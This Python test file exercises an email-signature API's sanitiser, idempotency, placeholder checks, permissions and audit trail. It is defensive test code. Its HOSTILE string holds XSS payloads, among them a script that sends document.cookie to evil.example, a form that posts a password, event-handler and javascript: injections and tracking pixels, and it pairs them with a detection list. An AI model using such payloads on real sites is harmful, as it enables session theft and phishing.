"""Signatures through the registry's HTTP API, with authz running and events in the audit trail:
hostile HTML sanitised, idempotent changes, placeholders checked, Configure required."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from libs.common.natsserver import NatsServer
from tests.support.registry import audit_types, imap_account, stop
from tests.support.stack import Stack, start_stack, wait_until

pytestmark = [pytest.mark.e2e, pytest.mark.connected]

HOSTILE = (
    '<p onclick="steal()">Ada <b>{employee.name}</b></p>'
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    '<img src="x" onerror="alert(1)">'
    '<img src="https://tracker.example/pixel.gif">'
    '<form action="https://evil.example/login"><input name="password"></form>'
    '<div style="background:url(https://tracker.example/css.gif)">Acme</div>'
    "<style>body{background:url(https://tracker.example/s.gif)}</style>"
    '<a href="javascript:alert(1)">click</a> <a href="https://acme.example">site</a>'
    '<iframe src="https://evil.example"></iframe><svg onload="alert(1)"></svg>'
)
ACTIVE = ("<script", "onerror", "onclick", "onload", "<form", "<input", "<style", "url(",
          "javascript:", "tracker.example", "<iframe", "<svg", "evil.example")  # fmt: skip


@pytest.fixture
async def stack(tmp_path: Path, nats_server: NatsServer) -> AsyncIterator[Stack]:
    s = await start_stack(tmp_path, nats_server, ("registry", "authz", "audit"))
    try:
        yield s
    finally:
        await stop(s)


async def _employee(stack: Stack, name: str, title: str = "") -> str:
    r = await stack.call(
        "POST", "/v1/employees", json={"name": name, "email": f"{name}@x.io", "title": title}
    )
    assert r.status_code == 201, r.text
    return str(r.json()["id"])


async def _grant(stack: Stack, mailbox: str, employee: str, level: str) -> None:
    async def granted() -> bool:  # authz learns of the new mailbox from the event stream
        r = await stack.call(
            "POST",
            f"/v1/mailboxes/{mailbox}/grants",
            json={"grantee_kind": "employee", "grantee_id": employee, "level": level},
        )
        return r.status_code in (200, 201)

    await wait_until(granted)


async def test_hostile_mailbox_signature_is_sanitised_idempotent_and_audited(
    stack: Stack,
) -> None:
    r = await stack.call("POST", "/v1/accounts", json=imap_account("sales@x.io"))
    mailbox = r.json()["id"]
    url = f"/v1/accounts/{mailbox}/signatures/default"

    r = await stack.call("PUT", url, json={"html": HOSTILE})
    assert r.status_code == 200, r.text
    done = r.json()
    assert done["changed"] is True
    html, text = done["signature"]["html"], done["signature"]["text"]
    for bad in ACTIVE:
        assert bad not in html.lower(), bad
    assert "<b>{employee.name}</b>" in html and "Acme" in html
    assert '<a href="https://acme.example" rel="noopener noreferrer">site</a>' in html
    assert "<img>" in html  # the remote and broken images lost their src
    assert text.startswith("Ada {employee.name}") and "site <https://acme.example>" in text
    assert done["signature"]["placeholders"] == ["employee.name"]

    again = await stack.call("PUT", url, json={"html": HOSTILE})
    assert again.status_code == 200 and again.json()["changed"] is False  # says so

    alt = await stack.call(
        "PUT",
        f"/v1/accounts/{mailbox}/signatures/sales-team",
        json={"html": "<i>Sales</i> {mailbox.address}"},
    )
    assert alt.status_code == 200 and alt.json()["signature"]["text"] == "Sales {mailbox.address}"
    listed = (await stack.call("GET", f"/v1/accounts/{mailbox}/signatures")).json()
    assert [s["name"] for s in listed["items"]] == ["default", "sales-team"]
    assert listed["items"][0]["html"] == html and listed["items"][0]["updated_by"] == "admin:admin"
    got = await stack.call("GET", url)
    assert got.status_code == 200 and got.json()["text"] == text

    gone = await stack.call("DELETE", f"/v1/accounts/{mailbox}/signatures/sales-team")
    assert gone.status_code == 200 and gone.json() == {"changed": True, "signature": None}
    gone = await stack.call("DELETE", f"/v1/accounts/{mailbox}/signatures/sales-team")
    assert gone.json()["changed"] is False
    missing = await stack.call("GET", f"/v1/accounts/{mailbox}/signatures/sales-team")
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "no_signature"

    names = await audit_types(stack, mailbox, 4)
    assert names.count("SignatureSet") == 2 and names.count("SignatureRemoved") == 1
    r = await stack.call("GET", "/v1/audit/events", params={"aggregate_id": mailbox})
    [first] = [i for i in r.json()["items"] if i["event"]["type"].endswith("SignatureSet.v1")][:1]
    assert first["event"]["data"]["html"] == html and first["event"]["data"]["text"] == text


async def test_bad_signatures_are_4xx_and_change_nothing(stack: Stack) -> None:
    mailbox = (await stack.call("POST", "/v1/accounts", json=imap_account("a@x.io"))).json()["id"]
    base = f"/v1/accounts/{mailbox}/signatures"
    cases = [
        ("default", {"html": "Regards, {employee.nmae}"}, 422, "unknown_placeholder"),
        ("default", {"html": "<script>alert(1)</script>"}, 422, "empty_signature"),
        ("Bad Name", {"html": "x"}, 422, "invalid_signature_name"),
        ("default", {"html": "x" * 70_000}, 422, "invalid_request"),
        ("default", {"html": ""}, 422, "invalid_request"),
        ("default", {"text": "x"}, 422, "invalid_request"),
    ]
    for name, body, status, code in cases:
        r = await stack.call("PUT", f"{base}/{name}", json=body)
        assert r.status_code == status and r.json()["error"]["code"] == code, (name, r.text)
    r = await stack.call("PUT", "/v1/accounts/nope/signatures/default", json={"html": "x"})
    assert r.status_code == 404
    r = await stack.call("PUT", f"{base}/default", json={"html": "x"}, tenant="other")
    assert r.status_code == 404  # another tenant's mailbox is not there
    assert (await stack.call("GET", base)).json()["items"] == []


async def test_configure_is_needed_and_personal_signatures_are_ones_own(stack: Stack) -> None:
    ada, bob = await _employee(stack, "ada", "CTO"), await _employee(stack, "bob")
    shared = await stack.call(
        "POST", "/v1/accounts", json=imap_account("team@x.io", ownership="shared")
    )
    mailbox = shared.json()["id"]
    await _grant(stack, mailbox, bob, "send")  # send, not configure
    url = f"/v1/accounts/{mailbox}/signatures/default"
    r = await stack.call("PUT", url, json={"html": "Team"}, role="employee", subject=bob)
    assert r.status_code == 403, r.text
    r = await stack.call("GET", f"/v1/accounts/{mailbox}/signatures", role="employee", subject=bob)
    assert r.status_code == 200  # reading needs Read only
    await _grant(stack, mailbox, ada, "configure")
    r = await stack.call("PUT", url, json={"html": "Team"}, role="employee", subject=ada)
    assert r.status_code == 200 and r.json()["changed"] is True

    mine = f"/v1/employees/{ada}/signature"
    r = await stack.call(
        "PUT", mine, json={"html": "<b>{employee.name}</b>, {employee.title}"},
        role="employee", subject=ada,
    )  # fmt: skip
    assert (
        r.status_code == 200
        and r.json()["signature"]["text"] == "{employee.name}, {employee.title}"
    )
    r = await stack.call("PUT", mine, json={"html": "hijacked"}, role="employee", subject=bob)
    assert r.status_code == 403
    r = await stack.call("GET", mine, role="employee", subject=bob)
    assert r.status_code == 403
    r = await stack.call("GET", mine)  # a tenant admin may
    assert r.status_code == 200 and r.json()["html"] == "<b>{employee.name}</b>, {employee.title}"
    r = await stack.call("PUT", "/v1/employees/nobody/signature", json={"html": "x"})
    assert r.status_code == 404
    r = await stack.call("DELETE", mine, role="employee", subject=ada)
    assert r.status_code == 200 and r.json()["changed"] is True
    r = await stack.call("GET", mine, role="employee", subject=ada)
    assert r.status_code == 404 and r.json()["error"]["code"] == "no_signature"
    names = await audit_types(stack, ada, 3)
    assert names[-2:] == ["PersonalSignatureSet", "PersonalSignatureRemoved"]
